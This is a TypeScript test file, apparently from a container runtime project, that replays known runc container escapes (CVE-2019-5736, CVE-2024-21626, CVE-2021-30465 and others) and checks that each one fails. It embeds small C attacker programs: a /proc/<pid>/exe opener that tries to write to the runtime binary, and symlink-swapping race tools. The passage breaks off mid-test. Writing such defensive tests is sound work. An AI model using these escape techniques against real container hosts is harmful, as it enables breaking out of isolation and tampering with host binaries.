// The known runc container escapes, each replayed against this runtime on the real kernel: every
// attack must fail. The attackers that need more than a shell (the /proc/<pid>/exe opener of
// CVE-2019-5736, the symlink flipper of the mount races) are small static C programs compiled here.
import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { CAPABILITIES } from '@tsc/syscall';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { Container, type ContainerError, type Process } from '../src/index.js';
import {
  type Bundle,
  type BundleOptions,
  cgroupDirs,
  containerError,
  Fixture,
  notRoot,
  REPO,
  rootfs,
  rootfsTopLevel,
  skipUnlessRoot,
  waitFor,
} from './fixtures.js';

/**
 * CVE-2019-5736 attacker. `exe-attack DIR`: until DIR/stop exists, for every other pid in /proc,
 * open /proc/<pid>/exe O_WRONLY, and open it O_PATH and keep that fd to reopen it later through
 * /proc/self/fd/N O_WRONLY (after the process it came from has exec'd or exited: the runc exploit).
 * A file that is neither this program nor the container's /bin/busybox is "foreign" (the runtime's
 * binary). A write is tried by writing the file's first byte back unchanged (no damage if it works).
 * Writes DIR/report (counters); DIR/escaped when a foreign file was opened for writing or written.
 */
const EXE_ATTACK_C = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXFD 256
static int held[MAXFD];
static char heldname[MAXFD][128];
static int nheld;
static long scans, seen_memfd, seen_other, opath_foreign, opath_denied, wr_open_foreign, writes_ok,
    etxtbsy, eperm_write;
static char first_other[128], escape_what[512];
static struct stat own_bb, own_self;

static int foreign(int fd) {
  struct stat st;
  if (fstat(fd, &st) < 0) return 0;
  if (st.st_dev == own_bb.st_dev && st.st_ino == own_bb.st_ino) return 0;
  if (st.st_dev == own_self.st_dev && st.st_ino == own_self.st_ino) return 0;
  return 1;
}

static void try_write(int wfd, const char *what) {
  char p[64];
  unsigned char b = 0x7f;
  snprintf(p, sizeof p, "/proc/self/fd/%d", wfd);
  int r = open(p, O_RDONLY | O_CLOEXEC);
  if (r >= 0) {
    if (pread(r, &b, 1, 0) != 1) b = 0x7f;
    close(r);
  }
  if (pwrite(wfd, &b, 1, 0) == 1) {
    writes_ok++;
    snprintf(escape_what, sizeof escape_what, "wrote %s", what);
  } else if (errno == EPERM) {
    eperm_write++;
  }
}

static void attempt_wronly(const char *p, const char *target) {
  int w = open(p, O_WRONLY | O_CLOEXEC);
  if (w < 0) {
    if (errno == ETXTBSY) etxtbsy++;
    return;
  }
  if (foreign(w)) {
    wr_open_foreign++;
    if (!escape_what[0]) snprintf(escape_what, sizeof escape_what, "opened %s (%s) O_WRONLY", p, target);
    try_write(w, target);
  }
  close(w);
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  char stop[256], rep[256], ready[256], esc[256];
  snprintf(stop, sizeof stop, "%s/stop", argv[1]);
  snprintf(rep, sizeof rep, "%s/report", argv[1]);
  snprintf(ready, sizeof ready, "%s/ready", argv[1]);
  snprintf(esc, sizeof esc, "%s/escaped", argv[1]);
  if (stat("/bin/busybox", &own_bb) < 0 || stat("/proc/self/exe", &own_self) < 0) return 3;
  pid_t self = getpid();
  close(open(ready, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
  time_t end = time(NULL) + 30;
  while (access(stop, F_OK) != 0 && time(NULL) < end) {
    scans++;
    DIR *d = opendir("/proc");
    if (!d) return 4;
    struct dirent *e;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == self) continue;
      char p[64], target[128] = "";
      snprintf(p, sizeof p, "/proc/%d/exe", pid);
      ssize_t n = readlink(p, target, sizeof target - 1);
      if (n > 0) {
        target[n] = 0;
        if (strstr(target, "memfd:")) seen_memfd++;
        else if (!strstr(target, "busybox") && !strstr(target, "exe-attack")) {
          seen_other++;
          if (!first_other[0]) snprintf(first_other, sizeof first_other, "%s", target);
        }
      }
      int o = open(p, O_PATH | O_CLOEXEC);
      if (o < 0) {
        if (errno == EACCES || errno == EPERM) opath_denied++;
      } else if (!foreign(o) || nheld >= MAXFD) {
        close(o);
      } else {
        opath_foreign++;
        snprintf(heldname[nheld], sizeof heldname[nheld], "%s", target);
        held[nheld++] = o;
      }
      attempt_wronly(p, target);
    }
    closedir(d);
    for (int i = 0; i < nheld; i++) {
      char p[64];
      snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
      attempt_wronly(p, heldname[i]);
    }
  }
  if (wr_open_foreign || writes_ok) {
    FILE *g = fopen(esc, "w");
    if (g) {
      fprintf(g, "%s\n", escape_what);
      fclose(g);
    }
  }
  FILE *f = fopen(rep, "w");
  if (!f) return 5;
  fprintf(f,
          "scans=%ld\nseen_memfd=%ld\nseen_other=%ld\nfirst_other=%s\nopath_foreign=%ld\nopath_denied=%ld\n"
          "wr_open_foreign=%ld\nwrites_ok=%ld\netxtbsy=%ld\neperm_write=%ld\nescape=%s\n",
          scans, seen_memfd, seen_other, first_other, opath_foreign, opath_denied, wr_open_foreign,
          writes_ok, etxtbsy, eperm_write, escape_what);
  fclose(f);
  return 0;
}
`;

/** `flip A B STOP`: swap A and B atomically (renameat2 RENAME_EXCHANGE) until STOP exists; prints the count. */
const FLIP_C = String.raw`
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>
#define RENAME_EXCHANGE 2
int main(int argc, char **argv) {
  if (argc < 4) return 2;
  long n = 0, failed = 0;
  for (;;) {
    for (int i = 0; i < 64; i++) {
      if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) n++;
      else failed++;
    }
    if (access(argv[3], F_OK) == 0) break;
  }
  printf("%ld %ld\n", n, failed);
  return 0;
}
`;

/**
 * \`swap-on-create DIR NAME A B\`: prints "ready", waits (inotify) until NAME is created in DIR, then
 * exchanges A and B atomically and prints "swapped". The attacker of a rootfs it can write to: the
 * runtime creates the process cwd right after the container's mounts, so that is the moment.
 */
const SWAP_ON_CREATE_C = String.raw`
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/syscall.h>
#include <unistd.h>
#define RENAME_EXCHANGE 2
int main(int argc, char **argv) {
  if (argc < 5) return 2;
  int fd = inotify_init1(IN_CLOEXEC);
  if (fd < 0 || inotify_add_watch(fd, argv[1], IN_CREATE) < 0) return 3;
  printf("ready\n");
  fflush(stdout);
  char buf[4096] __attribute__((aligned(8)));
  for (;;) {
    ssize_t n = read(fd, buf, sizeof buf);
    if (n <= 0) return 4;
    for (char *p = buf; p < buf + n;) {
      struct inotify_event *e = (struct inotify_event *)p;
      if (e->len && strcmp(e->name, argv[2]) == 0) {
        long r = syscall(SYS_renameat2, AT_FDCWD, argv[3], AT_FDCWD, argv[4], RENAME_EXCHANGE);
        printf(r == 0 ? "swapped\n" : "failed %d\n", errno);
        return 0;
      }
      p += sizeof *e + e->len;
    }
  }
}
`;

/** A host mount: "mountpoint fstype". */
function hostMounts(): string[] {
  return fs
    .readFileSync('/proc/self/mountinfo', 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => {
      const f = l.split(' ');
      const dash = f.indexOf('-');
      return `${f[4]} ${f[dash + 1]}`;
    });
}

/** Mounts of `types` that the host has now and did not have in `before`. */
function newHostMounts(before: readonly string[], types = ['tmpfs', 'proc', 'sysfs', 'devpts']): string[] {
  const had = new Set(before);
  return hostMounts().filter((m) => !had.has(m) && types.includes(m.split(' ')[1] ?? ''));
}

/** The mounts a container's init sees ("mountpoint fstype", relative to its root), read from the host. */
function containerMounts(pid: number): string[] {
  return fs
    .readFileSync(`/proc/${pid}/mountinfo`, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => {
      const f = l.split(' ');
      const dash = f.indexOf('-');
      return `${f[4]} ${f[dash + 1]}`;
    });
}

/** "mountpoint fstype options" of a container's mounts, read from the host. */
function containerMountsWithOptions(pid: number): string[] {
  return fs
    .readFileSync(`/proc/${pid}/mountinfo`, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => {
      const f = l.split(' ');
      const dash = f.indexOf('-');
      return `${f[4]} ${f[dash + 1]} ${f[5]},`;
    });
}

/**
 * Whether the directory behind /proc/<pid>/<link> (cwd or root) lies inside `dir` on the host:
 * climb `..` from it until reaching `dir` (inside) or a directory that is its own parent.
 */
function linkInside(pid: number, link: 'cwd' | 'root', dir: string): boolean {
  const want = fs.statSync(dir);
  let p = `/proc/${pid}/${link}`;
  let prev: fs.Stats | undefined;
  for (let i = 0; i < 256; i++) {
    const st = fs.statSync(p);
    if (st.dev === want.dev && st.ino === want.ino) return true;
    if (prev && prev.dev === st.dev && prev.ino === st.ino) return false;
    prev = st;
    p += '/..';
  }
  return false;
}

function sha256(file: string): string {
  return createHash('sha256').update(fs.readFileSync(file)).digest('hex');
}

function kv(text: string): Record<string, string> {
  const m: Record<string, string> = {};
  for (const l of text.split('\n')) {
    const i = l.indexOf('=');
    if (i > 0) m[l.slice(0, i)] = l.slice(i + 1);
  }
  return m;
}

/** Every capability this host's root holds (the most a container can be given). */
function hostCaps(): string[] {
  const prm = BigInt(`0x${/^CapPrm:\s+(\S+)/m.exec(fs.readFileSync('/proc/self/status', 'utf8'))?.[1]}`);
  const last = Number(fs.readFileSync('/proc/sys/kernel/cap_last_cap', 'utf8'));
  return CAPABILITIES.slice(0, last + 1).filter((_, i) => (prm & (1n << BigInt(i))) !== 0n);
}

describe.skipIf(notRoot)(`known container escapes${notRoot ? ` (${skipUnlessRoot()})` : ''}`, () => {
  let fx: Fixture;
  let topLevel: string[];
  let bin: string;

  beforeAll(() => {
    fx = new Fixture('esc');
    rootfs();
    topLevel = rootfsTopLevel();
    bin = fx.tempDir('bin');
    for (const [name, src] of [
      ['exe-attack', EXE_ATTACK_C],
      ['flip', FLIP_C],
      ['swap-on-create', SWAP_ON_CREATE_C],
    ] as const) {
      fs.writeFileSync(path.join(bin, `${name}.c`), src);
      execFileSync('gcc', ['-static', '-O2', '-o', path.join(bin, name), path.join(bin, `${name}.c`)]);
    }
  });
  afterEach(async () => {
    await fx.cleanup();
  });
  afterAll(async () => {
    await fx?.dispose();
    if (topLevel) expect(rootfsTopLevel()).toEqual(topLevel);
  });

  /** Start a container and return it with its init pid (run mode; the test deletes it or cleanup does). */
  async function start(b: Bundle, out = fx.output()) {
    const id = fx.id();
    const r = await Container.run({ id, bundle: b.dir, root: fx.root, stdio: out.stdio });
    return { id, ...r, pid: r.container.state().pid, out };
  }

  /** A create that must fail: StartFailed (or InvalidConfig), one line, nothing left behind. */
  async function createFails(
    opts: BundleOptions,
    mode: 'create' | 'run' = 'create',
  ): Promise<ContainerError> {
    const b = fx.makeBundle(opts);
    const id = fx.id();
    const o = { id, bundle: b.dir, root: fx.root, stdio: fx.output().stdio };
    const e = await containerError(mode === 'create' ? Container.create(o) : Container.run(o));
    expect(['StartFailed', 'InvalidConfig']).toContain(e.code);
    expect(e.message).not.toContain('\n');
    expect(fx.stateIds()).toEqual([]);
    expect(cgroupDirs(id)).toEqual([]);
    return e;
  }

  describe('CVE-2019-5736: overwriting the runtime through /proc/<pid>/exe', () => {
    const binaries = () =>
      [
        path.join(REPO, 'packages/executor/dist/nsinit-executor'),
        path.join(REPO, 'packages/cli/dist/nsinit-executor'),
        fs.realpathSync(process.execPath),
      ].filter((f) => fs.existsSync(f));

    /**
     * Run the attacker as the init of a container (with `caps`, or the default set) while exec'ing
     * `true` and `sleep 0.05` into it 20 times; return its report, the exec failures and the hashes.
     */
    async function attack(caps?: string[]) {
      const shared = fx.tempDir('shared');
      const b = fx.makeBundle({
        args: ['/bin/exe-attack', '/shared'],
        copyRootfs: true,
        mutate: (s) => {
          s.mounts.push({ destination: '/shared', type: 'bind', source: shared, options: ['rbind', 'rw'] });
          if (caps) s.process.capabilities = { bounding: caps, effective: caps, permitted: caps };
        },
      });
      fs.copyFileSync(path.join(bin, 'exe-attack'), path.join(b.rootfs, 'bin/exe-attack'));
      fs.chmodSync(path.join(b.rootfs, 'bin/exe-attack'), 0o755);
      const before = new Map(binaries().map((f) => [f, sha256(f)]));
      const c = await start(b);
      await waitFor(() => fs.existsSync(path.join(shared, 'ready')), 5000, 'the attacker to start');
      const failures: string[] = [];
      const out = fx.output();
      for (let i = 0; i < 20; i++) {
        const proc: Process = { ...b.config.process!, args: i % 2 ? ['true'] : ['sleep', '0.05'] };
        try {
          const p = await c.container.exec(proc, { stdio: out.stdio });
          const st = await p.exited;
          if (st.status !== 0) failures.push(`exec ${i}: exit ${st.status}`);
        } catch (e) {
          failures.push(`exec ${i}: ${(e as Error).message}`);
        }
      }
      // Give the attacker time to reopen what it holds now that every exec'd process is gone.
      await new Promise((r) => setTimeout(r, 300));
      fs.writeFileSync(path.join(shared, 'stop'), '');
      expect(await c.exited, c.out.read()).toMatchObject({ status: 0 });
      await c.container.delete();
      const report = kv(fs.readFileSync(path.join(shared, 'report'), 'utf8'));
      const escaped = fs.existsSync(path.join(shared, 'escaped'))
        ? fs.readFileSync(path.join(shared, 'escaped'), 'utf8')
        : undefined;
      const after = new Map(binaries().map((f) => [f, sha256(f)]));
      return { report, escaped, failures, before, after };
    }

    it('default capabilities: the entering process cannot even be looked at, 20 execs all work', async () => {
      const r = await attack();
      const why = JSON.stringify(r.report);
      expect(r.escaped, why).toBeUndefined();
      expect(r.after).toEqual(r.before);
      expect(r.failures).toEqual([]);
      expect(Number(r.report['scans']), why).toBeGreaterThan(100);
      // It did see the processes entering (non-dumpable executor children), and was refused.
      expect(Number(r.report['opath_denied']), why).toBeGreaterThan(0);
      expect(r.report['opath_foreign'], why).toBe('0');
      expect(r.report['wr_open_foreign'], why).toBe('0');
      expect(r.report['writes_ok'], why).toBe('0');
    });

    /** One attack with every capability, shared by the next two tests. */
    let ptraceRun: ReturnType<typeof attack> | undefined;

    it('with CAP_SYS_PTRACE (every capability): the sealed memfd refuses every write', async () => {
      ptraceRun ??= attack(hostCaps());
      const r = await ptraceRun;
      const why = JSON.stringify(r.report);
      // The attacker did reach the executor (memfd) while it entered the container...
      expect(Number(r.report['seen_memfd']), why).toBeGreaterThan(0);
      expect(Number(r.report['opath_foreign']), why).toBeGreaterThan(0);
      // ...and not one write reached it; the binaries on disk are unchanged.
      expect(r.report['writes_ok'], why).toBe('0');
      expect(r.report['seen_other'], why).toBe('0');
      expect(r.after).toEqual(r.before);
    });

    // With CAP_SYS_PTRACE a container can open /proc/<pid>/exe of an executor entering it, keep
    // that O_PATH fd, and reopen it O_WRONLY once no executor runs (seals refuse writes, not opens).
    // Every spawn uses a fresh sealed memfd, so holding an old one open cannot make later spawns
    // fail with ETXTBSY: no create or exec is refused.
    it('with CAP_SYS_PTRACE: no exec is refused while the container holds old executor images', async () => {
      ptraceRun ??= attack(hostCaps());
      const r = await ptraceRun;
      expect(r.failures, JSON.stringify(r.report)).toEqual([]);
      expect(r.report['writes_ok'], JSON.stringify(r.report)).toBe('0');
    });

    // KNOWN LIMITATION (not an escape: no write ever lands, see above): the O_WRONLY open itself
    // still succeeds on a sealed memfd. Running the executor from a read-only detached mount of
    // the binary (open_tree + mount_setattr, so such opens get EROFS) would close it. Remove
    // `.fails` then.
    it.fails('with CAP_SYS_PTRACE: no O_WRONLY open of an executor image', async () => {
      ptraceRun ??= attack(hostCaps());
      let r: Awaited<ReturnType<typeof attack>>;
      try {
        r = await ptraceRun;
      } catch {
        // The attack itself broke: pass, so that `.fails` reports it instead of hiding it.
        return;
      }
      expect(r.escaped, JSON.stringify(r.report)).toBeUndefined();
    });
  });

  describe('CVE-2024-21626: host fds and /proc/self/fd/N', () => {
    /** `ls -l /proc/self/fd` lines → fd → target. */
    function fdTable(text: string, marker: string): Map<number, string> {
      const m = new Map<number, string>();
      const section = text.split(`--${marker}--\n`)[1]?.split('--end--')[0] ?? '';
      for (const l of section.split('\n')) {
        const x = /\s(\d+) -> (.*)$/.exec(l);
        if (x) m.set(Number(x[1]), x[2] as string);
      }
      return m;
    }

    /** The fd numbers a plain `ls /proc/self/fd` printed after `--<marker>-names--`. */
    function fdNames(text: string, marker: string): string[] {
      return (text.split(`--${marker}-names--\n`)[1]?.split('--end--')[0] ?? '').split('\n').filter(Boolean);
    }

    function onlyStdio(text: string, marker: string, out: string): void {
      // 3 is ls's own directory fd; anything more came from the runtime.
      expect(fdNames(text, marker)).toEqual(['0', '1', '2', '3']);
      const t = fdTable(text, marker);
      expect(t.get(0)).toBe('/dev/null');
      expect(t.get(1)).toBe(out);
      expect(t.get(2)).toBe(out);
      // ls -l reads the links after closing its directory fd: 3 is gone by then, or /proc/<ls>/fd.
      expect([...t.keys()].filter((k) => k > 2).map((k) => t.get(k))).toEqual(
        t.has(3) ? [expect.stringMatching(/^\/proc\/\d+\/fd$/)] : [],
      );
    }

    it('the init (create+start, and run) and exec processes have only 0 1 2', async () => {
      const list = (m: string) =>
        `echo --${m}-names--; ls /proc/self/fd; echo --end--; echo --${m}--; ls -l /proc/self/fd 2>&1; echo --end--`;
      const listing = list('init');
      for (const mode of ['create', 'run'] as const) {
        const b = fx.makeBundle({ args: ['sh', '-c', `${listing}; exec sleep 1000`] });
        const out = fx.output();
        const outPath = fs.readlinkSync(`/proc/self/fd/${out.stdio[1]}`);
        const id = fx.id();
        const o = { id, bundle: b.dir, root: fx.root, stdio: out.stdio };
        const c = mode === 'create' ? await Container.create(o) : (await Container.run(o)).container;
        if (mode === 'create') await c.start();
        await waitFor(() => out.read().split('--end--').length === 3, 5000, 'the init listing');
        const p = await c.exec(
          { ...b.config.process!, args: ['sh', '-c', list('exec')] },
          { stdio: out.stdio },
        );
        expect((await p.exited).status).toBe(0);
        onlyStdio(out.read(), 'init', outPath);
        onlyStdio(out.read(), 'exec', outPath);
        await c.delete({ force: true });
      }
    });

    it('process.cwd /proc/self/fd/3 … /proc/self/fd/10 cannot start (create and run)', async () => {
      for (let n = 3; n <= 10; n++) {
        const e = await createFails({
          args: ['sh', '-c', 'pwd; sleep 1000'],
          mutate: (s) => {
            s.process.cwd = `/proc/self/fd/${n}`;
          },
        });
        expect(e.message).toContain(`/proc/self/fd/${n}`);
      }
      for (const n of [3, 4]) {
        await createFails(
          {
            args: ['sh', '-c', 'pwd; sleep 1000'],
            mutate: (s) => {
              s.process.cwd = `/proc/self/fd/${n}`;
            },
          },
          'run',
        );
      }
    });

    it('args[0] /proc/self/fd/N cannot execute anything (create, run, exec)', async () => {
      for (let n = 3; n <= 6; n++) {
        // create: fd 4 is the sync socket, which passes the X_OK check (sockets are 0777), so that
        // create succeeds; its exec then fails at start and the container just stops.
        const b = fx.makeBundle({ args: [`/proc/self/fd/${n}`] });
        const out = fx.output();
        const id = fx.id();
        try {
          const c = await Container.create({ id, bundle: b.dir, root: fx.root, stdio: out.stdio });
          expect(n).toBe(4);
          await c.start();
          await waitFor(() => c.state().status === 'stopped', 5000, 'the failed exec to end the container');
          await c.delete();
        } catch (e) {
          expect((e as ContainerError).code).toBe('StartFailed');
          expect((e as Error).message).toContain(`/proc/self/fd/${n}`);
        }
        expect(out.read()).toBe('');
        expect(fx.stateIds()).toEqual([]);
        expect(cgroupDirs(id)).toEqual([]);
        await createFails({ args: [`/proc/self/fd/${n}`] }, 'run');
      }
      const b = fx.makeBundle({ args: ['sleep', '1000'] });
      const c = await start(b);
      for (let n = 3; n <= 10; n++) {
        const e = await containerError(
          c.container.exec({ ...b.config.process!, args: [`/proc/self/fd/${n}`] }, { stdio: c.out.stdio }),
        );
        expect(e.code).toBe('StartFailed');
        expect(e.message).toContain(`/proc/self/fd/${n}`);
      }
      expect(c.container.pids()).toEqual([c.pid]);
    });

    it('exec with cwd /proc/self/fd/3 … 10 fails; a cwd that works is inside the rootfs', async () => {
      const b = fx.makeBundle({ args: ['sleep', '1000'] });
      const c = await start(b);
      for (let n = 3; n <= 10; n++) {
        const e = await containerError(
          c.container.exec(
            { ...b.config.process!, args: ['sh', '-c', 'pwd; sleep 1000'], cwd: `/proc/self/fd/${n}` },
            { stdio: c.out.stdio },
          ),
        );
        expect(e.code).toBe('StartFailed');
        expect(e.message).toContain(`/proc/self/fd/${n}`);
      }
      expect(c.out.read()).toBe('');
      // The init's and an exec'd process's cwd and root, seen from the host, are in the rootfs.
      const p = await c.container.exec(
        { ...b.config.process!, args: ['sleep', '1000'], cwd: '/etc' },
        { stdio: c.out.stdio },
      );
      for (const pid of [c.pid, p.pid]) {
        expect(linkInside(pid, 'cwd', b.rootfs)).toBe(true);
        expect(linkInside(pid, 'root', b.rootfs)).toBe(true);
      }
      expect(fs.statSync(`/proc/${p.pid}/cwd`).ino).toBe(fs.statSync(path.join(b.rootfs, 'etc')).ino);
      // The check itself can tell: this test process's cwd is not in the rootfs.
      expect(linkInside(process.pid, 'cwd', b.rootfs)).toBe(false);
    });
  });

  describe('CVE-2021-30465: symlinks in mount destinations', () => {
    const tag = `tsc-esc-${process.pid}`;

    it('/evil -> / and /evil2 -> ../../../../: tmpfs and bind mounts land inside the rootfs', async () => {
      const x = `${tag}-x`;
      const y = `${tag}-y`;
      const z = `${tag}-z`;
      for (const n of [x, y, z]) expect(fs.existsSync(`/${n}`)).toBe(false);
      const src = fx.tempDir('src');
      fs.writeFileSync(path.join(src, 'from-host'), 'hi\n');
      const b = fx.makeBundle({
        args: [
          'sh',
          '-c',
          `stat -f -c '%n %T' /${x} /${y}; cat /${z}/from-host; ls -l /evil /evil2 | sed 's/.* -> /link /'
           awk '{ print "mnt " $5 }' /proc/self/mountinfo | grep ${tag}`,
        ],
        copyRootfs: true,
        mutate: (s) => {
          s.mounts.push(
            { destination: `/evil/${x}`, type: 'tmpfs', source: 'tmpfs', options: ['nosuid'] },
            { destination: `/evil2/${y}`, type: 'tmpfs', source: 'tmpfs', options: ['nosuid'] },
            { destination: `/evil/${z}`, type: 'bind', source: src, options: ['rbind', 'ro'] },
          );
        },
      });
      fs.symlinkSync('/', path.join(b.rootfs, 'evil'));
      fs.symlinkSync('../../../../', path.join(b.rootfs, 'evil2'));
      const before = hostMounts();
      const out = fx.output();
      const { container, exited } = await Container.run({
        id: fx.id(),
        bundle: b.dir,
        root: fx.root,
        stdio: out.stdio,
      });
      expect(await exited, out.read()).toMatchObject({ status: 0 });
      await container.delete();
      expect(out.lines()).toEqual([
        `/${x} tmpfs`,
        `/${y} tmpfs`,
        'hi',
        'link /',
        'link ../../../../',
        `mnt /${x}`,
        `mnt /${y}`,
        `mnt /${z}`,
      ]);
      for (const n of [x, y, z]) {
        expect(fs.statSync(path.join(b.rootfs, n)).isDirectory()).toBe(true);
        expect(fs.existsSync(`/${n}`)).toBe(false);
      }
      expect(newHostMounts(before)).toEqual([]);
    });

    it('a component flipped between a directory and a symlink to / during 50 creates', async () => {
      const m = `${tag}-m`;
      expect(fs.existsSync(`/${m}`)).toBe(false);
      const b = fx.makeBundle({
        args: ['sleep', '1000'],
        copyRootfs: true,
        mutate: (s) => {
          s.mounts.push({ destination: `/race/${m}`, type: 'tmpfs', source: 'tmpfs', options: ['nosuid'] });
        },
      });
      fs.mkdirSync(path.join(b.rootfs, 'race'));
      fs.symlinkSync('/', path.join(b.rootfs, 'race.alt'));
      const stop = path.join(fx.tempDir('flip'), 'stop');
      const before = hostMounts();
      const flipper = spawn(
        path.join(bin, 'flip'),
        [path.join(b.rootfs, 'race'), path.join(b.rootfs, 'race.alt'), stop],
        {
          stdio: ['ignore', 'pipe', 'inherit'],
        },
      );
      let flips = '';
      flipper.stdout.on('data', (d) => {
        flips += d;
      });
      const flipperDone = new Promise((r) => flipper.on('exit', r));
      const landed: Record<string, number> = {};
      const failures: string[] = [];
      try {
        for (let i = 0; i < 50; i++) {
          const id = fx.id('race');
          let c: Container;
          try {
            c = await Container.create({ id, bundle: b.dir, root: fx.root, stdio: fx.output().stdio });
          } catch (e) {
            failures.push((e as Error).message);
            continue;
          }
          const mine = containerMounts(c.state().pid).filter((l) => l.includes(m));
          for (const l of mine) landed[l] = (landed[l] ?? 0) + 1;
          // Exactly one tmpfs, at one of the two in-root places the path can resolve to.
          expect(mine).toHaveLength(1);
          // (mountinfo prints the path as it is now: the directory may be named race.alt by then)
          expect([`/race/${m} tmpfs`, `/race.alt/${m} tmpfs`, `/${m} tmpfs`]).toContain(mine[0]);
          await c.delete({ force: true });
          expect(fs.existsSync(`/${m}`)).toBe(false);
        }
      } finally {
        fs.writeFileSync(stop, '');
        await flipperDone;
      }
      expect(newHostMounts(before)).toEqual([]);
      expect(fs.existsSync(`/${m}`)).toBe(false);
      // The race was real: the flipper swapped many times and both in-root outcomes were hit.
      expect(Number(flips.split(' ')[0]), flips).toBeGreaterThan(1000);
      const inRace = (landed[`/race/${m} tmpfs`] ?? 0) + (landed[`/race.alt/${m} tmpfs`] ?? 0);
      expect(inRace, JSON.stringify({ landed, failures })).toBeGreaterThan(0);
      expect(landed[`/${m} tmpfs`], JSON.stringify({ landed, failures })).toBeGreaterThan(0);
      for (const f of failures) expect(f).toMatch(/tmpfs on \/race\//);
    });
  });

  describe('CVE-2022-29162: inheritable capabilities', () => {
    it('init and exec (with capabilities added) have CapInh 0; file-inheritable caps give nothing', async () => {
      const b = fx.makeBundle({
        args: ['sh', '-c', "grep -E '^Cap(Inh|Amb)' /proc/self/status | tr -d '\\t'; exec sleep 1000"],
        copyRootfs: true,
        mutate: (s) => {
          // Without no_new_privs, so file capabilities do apply on exec.
          s.process.noNewPrivileges = false;
        },
      });
      // A binary with inheritable+effective file capabilities: a process with CAP_NET_RAW or
      // CAP_SYS_ADMIN in its inheritable set gets them in its permitted set on exec.
      // (named grep: busybox picks the applet by its name)
      fs.mkdirSync(path.join(b.rootfs, 'capbin'));
      fs.copyFileSync(path.join(b.rootfs, 'bin/busybox'), path.join(b.rootfs, 'capbin/grep'));
      execFileSync('setcap', ['cap_net_raw,cap_sys_admin+ei', path.join(b.rootfs, 'capbin/grep')]);
      const c = await start(b);
      await waitFor(() => c.out.lines().length >= 2, 5000, 'the init caps');
      expect(c.out.lines()).toEqual(['CapInh:0000000000000000', 'CapAmb:0000000000000000']);

      const added = ['CAP_AUDIT_WRITE', 'CAP_KILL', 'CAP_NET_BIND_SERVICE', 'CAP_SYS_ADMIN', 'CAP_NET_RAW'];
      const run = async (proc: Partial<Process>) => {
        const out = fx.output();
        const p = await c.container.exec(
          {
            ...b.config.process!,
            args: ['/capbin/grep', '^Cap', '/proc/self/status'],
            ...proc,
          },
          { stdio: out.stdio },
        );
        expect((await p.exited).status, out.read()).toBe(0);
        return kv(out.read().replaceAll(':\t', '='));
      };
      const caps = { bounding: added, effective: added, permitted: added };
      // root: the added caps are there (bounding/permitted/effective), inheritable stays empty.
      expect(await run({ capabilities: caps })).toMatchObject({
        CapInh: '0000000000000000',
        CapPrm: '0000000020202420',
        CapEff: '0000000020202420',
        CapBnd: '0000000020202420',
        CapAmb: '0000000000000000',
      });
      // uid 1000: nothing at all through the file's inheritable bits.
      expect(await run({ capabilities: caps, user: { uid: 1000, gid: 1000 } })).toMatchObject({
        CapInh: '0000000000000000',
        CapPrm: '0000000000000000',
        CapEff: '0000000000000000',
      });
      // The check can tell: asked for explicitly, an inheritable CAP_NET_RAW does come through.
      expect(
        await run({
          capabilities: { ...caps, inheritable: ['CAP_NET_RAW'] },
          user: { uid: 1000, gid: 1000 },
        }),
      ).toMatchObject({
        CapInh: '0000000000002000',
        CapPrm: '0000000000002000',
        CapEff: '0000000000002000',
      });
    });
  });

  describe('`..` in mount destinations and cwd', () => {
    it('mount /../../../../tmp/escape lands in the rootfs; cwd /../../.. is the container root', async () => {
      const name = `tsc-esc-dotdot-${process.pid}`;
      expect(fs.existsSync(`/tmp/${name}`)).toBe(false);
      const src = fx.tempDir('src');
      const b = fx.makeBundle({
        args: ['sh', '-c', `pwd; stat -f -c %T /tmp/${name}; ls /tmp/${name}-b; exec sleep 1000`],
        copyRootfs: true,
        mutate: (s) => {
          s.process.cwd = '/../../..';
          s.mounts.push(
            { destination: `/../../../../tmp/${name}`, type: 'tmpfs', source: 'tmpfs', options: ['nosuid'] },
            { destination: `/../../../../tmp/${name}-b`, type: 'bind', source: src, options: ['rbind'] },
          );
        },
      });
      fs.writeFileSync(path.join(src, 'bound'), '');
      const before = hostMounts();
      const c = await start(b);
      await waitFor(() => c.out.lines().length >= 3, 5000, 'the output');
      expect(c.out.lines()).toEqual(['/', 'tmpfs', 'bound']);
      expect(linkInside(c.pid, 'cwd', b.rootfs)).toBe(true);
      expect(fs.statSync(`/proc/${c.pid}/cwd`).ino).toBe(fs.statSync(b.rootfs).ino);
      expect(containerMounts(c.pid)).toEqual(
        expect.arrayContaining([`/tmp/${name} tmpfs`, expect.stringMatching(`^/tmp/${name}-b `)]),
      );
      expect(fs.statSync(path.join(b.rootfs, 'tmp', name)).isDirectory()).toBe(true);
      // exec with cwd /../../.. too.
      const out = fx.output();
      const p = await c.container.exec(
        { ...b.config.process!, args: ['sh', '-c', 'pwd; exec sleep 1000'], cwd: '/../../..' },
        { stdio: out.stdio },
      );
      await waitFor(() => out.lines().length >= 1, 5000, 'the exec output');
      expect(out.lines()).toEqual(['/']);
      expect(fs.statSync(`/proc/${p.pid}/cwd`).ino).toBe(fs.statSync(b.rootfs).ino);
      expect(fs.existsSync(`/tmp/${name}`)).toBe(false);
      expect(fs.existsSync(`/tmp/${name}-b`)).toBe(false);
      expect(newHostMounts(before)).toEqual([]);
      await c.container.delete({ force: true });
    });
  });

  describe('CVE-2023-27561: proc and sysfs through a symlink', () => {
    for (const [dest, type] of [
      ['proc', 'proc'],
